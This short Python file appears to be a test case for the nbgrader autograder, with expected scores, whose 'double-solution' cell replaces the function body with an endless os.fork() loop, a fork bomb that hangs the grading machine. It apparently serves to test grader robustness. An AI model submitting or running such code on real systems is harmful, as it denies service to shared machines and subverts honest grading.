"""Forks without end."""
# falls: nbgrader 0.9.6
# expect: double=0 softmax=4

# %% double-solution
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
